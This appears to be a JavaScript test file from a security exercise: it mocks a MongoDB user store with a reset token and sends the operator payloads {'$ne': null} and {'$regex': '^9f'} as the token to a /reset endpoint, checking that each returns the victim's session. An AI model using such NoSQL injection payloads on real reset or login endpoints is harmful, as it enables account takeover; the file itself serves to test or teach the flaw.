// An operator in place of the token (steps 2 and 3).
//
// samples: bad 1, good 1
'use strict';

const mongodb = require('mongodb');
const { attack, load, quoted, run, serve, use } = require('attack');

mongodb.kept.shop = { users: [{ email: 'anna@shop.example', resetToken: '9f2c' }, { email: 'bob@shop.example' }] };

run(async () => {
  const { app } = load(['app'], { startSession: async (user) => `session of ${user.email}` });
  const ask = await serve(app);
  const reset = async (token) => (await ask('POST', '/reset', { email: 'anna@shop.example', token })).text;

  use([await reset('9f2c'), await reset('0000')]);
  const answers = [await reset(JSON.parse(quoted('{"$ne": null}'))), await reset(JSON.parse(quoted('{"$regex": "^9f"}')))];
  attack(answers.every((answer) => answer === '{"session":"session of anna@shop.example"}'), answers);
});
